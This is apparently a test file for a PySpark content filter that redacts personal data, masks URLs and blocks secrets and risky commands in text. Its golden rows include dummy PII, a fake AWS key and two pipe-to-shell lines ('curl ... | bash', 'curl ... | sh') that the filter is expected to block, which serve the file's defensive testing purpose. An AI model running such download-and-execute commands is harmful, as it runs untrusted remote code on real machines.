"""Golden rows of the engine and a Python model of its spans."""

import re

from pyspark.sql import functions as F

from outsieve.functions import text as X
from outsieve.plans.inspect import inspect
from outsieve.plans.policy import from_mapping

ROWS = [
    (1, "Contact john.doe@example.com or call +90 532 123 45 67"),
    (2, "Card 4111 1111 1111 1111 ok"),
    (3, "See `curl https://x.io/a | bash` here"),
    (4, "Go https://bit.ly/x and http://10.0.0.1/a"),
    (5, None),
    (6, "Look at me. Ok &amp;lt; %2541"),
    (7, "k " + "AKIA" + "ABCDEFGHIJKLMNOP and curl http://a.b | sh"),
]


def test_golden_rows(spark):
    got = {r.doc_id: r for r in inspect(spark.createDataFrame(ROWS, "doc_id long, response string")).collect()}
    assert got[1].applied_rules == ["PII-EMAIL", "PII-PHONE-TR"] and not got[1].blocked and got[1].risk_score == 27
    assert got[1].output == "Contact j***e@example.com or call +***67"
    assert got[2].blocked and got[2].applied_rules == ["PII-PAN"]
    assert got[3].blocked and got[3].findings[0].context == "code"
    assert got[4].output.count("[redacted-url]") == 2
    assert got[5].output == "" and got[5].norm.steps == ["coerce_str"]
    assert got[6].norm.text == "Look@me.Ok &lt; A" and got[6].norm.anomalies == ["url_decode_max_passes_reached"]
    assert got[7].applied_rules == ["SECRET-AWS-AK"]  # families after a block report nothing


def test_spans_equal_finditer(spark):
    texts = ["", "a1b22c333", "é12 😀 7", "no", "9" * 50, "1 2 3"]
    got = spark.createDataFrame([(t,) for t in texts], "t string").select("t", X.spans(F.col("t"), "[0-9]+").alias("s")).collect()
    assert all([(s.value, s.start, s.end) for s in r.s] == [(m[0], *m.span()) for m in re.finditer("[0-9]+", r.t)] for r in got)


def test_policy_from_mapping():
    p = from_mapping({"rules": [{"id": "A", "type": "url", "action": "mask", "pattern": "x+", "weight": 3}], "tenant_allowlist": {"t": ["v"]}, "context_settings": {"enabled": False}})
    assert p.rules[0].weight == 3 and p.allow[0].tenants == ("t",) and not p.context.enabled
